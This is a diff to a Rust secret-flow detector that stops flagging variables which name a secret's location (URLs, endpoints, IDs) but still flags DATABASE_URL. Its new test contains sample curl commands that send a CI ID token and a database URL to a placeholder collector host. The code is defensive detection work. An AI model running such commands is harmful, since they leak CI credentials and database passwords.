@@ -140,12 +140,50 @@ re!(
 /// Whether a secret-named variable is read on this line anywhere but where the request carries its credential.
 fn secret_var_sent(line: &str) -> bool {
     // Most lines read no secret: the credential places are found only for one that does.
-    let reads: Vec<_> = SECRET_VAR.find_iter(line).map(|m| m.range()).collect();
+    let reads: Vec<_> = SECRET_VAR
+        .find_iter(line)
+        .map(|m| m.range())
+        .filter(|r| !names_where_not_what(line, r.end))
+        .collect();
     if reads.is_empty() {
         return false;
     }
     let places = credential::places(line);
     reads.iter().any(|r| !credential::inside(&places, r))
+}
+
+/// Whether the variable a secret's word was found in (up to `at`, and on to its name's end) names where or which a
+/// secret is rather than the secret (`ACTIONS_ID_TOKEN_REQUEST_URL`, `TOKEN_ENDPOINT`, `SECRET_NAME`), a connection
+/// string's address aside (`DATABASE_URL` carries its password).
+fn names_where_not_what(line: &str, at: usize) -> bool {
+    let end = at
+        + line[at..]
+            .find(|c: char| !(c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_'))
+            .unwrap_or(line.len() - at);
+    let start = line[..end]
+        .rfind(|c: char| !(c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_'))
+        .map_or(0, |i| i + 1);
+    let name = &line[start..end];
+    const WHERE: &[&str] = &[
+        "_URL",
+        "_URI",
+        "_ENDPOINT",
+        "_HOST",
+        "_DIR",
+        "_NAME",
+        "_TYPE",
+        "_ID",
+        "_EXPIRY",
+        "_EXPIRES_AT",
+        "_TTL",
+        "_HEADER",
+        "_PATH",
+        "_REGION",
+        "_AUDIENCE",
+    ];
+    !name.contains("DATABASE_URL")
+        && !name.contains("CONNECTION_STRING")
+        && WHERE.iter().any(|w| name.ends_with(w))
 }
 
 /// Whether every secret this line reads itself stands where a request carries its credential
@@ -896,6 +934,16 @@ mod tests {
         );
         let plain = "import os\nprint(os.environ.get('HOME'))\nrequests.get('https://api.x.invalid')\n";
         assert!(secret_flows(plain, 1).is_empty());
+    }
+
+    #[test]
+    fn a_variable_that_names_where_a_token_is_is_not_the_token() {
+        let oidc = "TOKEN=$(curl -sSf -H \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=x\")\n";
+        assert!(secret_flows(oidc, 1).is_empty());
+        let sent = "curl -d \"t=$ACTIONS_ID_TOKEN_REQUEST_TOKEN\" https://collector.example/x\n";
+        assert_eq!(secret_flows(sent, 1).len(), 1);
+        let db = "curl -d \"$DATABASE_URL\" https://collector.example/x\n";
+        assert_eq!(secret_flows(db, 1).len(), 1);
     }
 
     #[test]
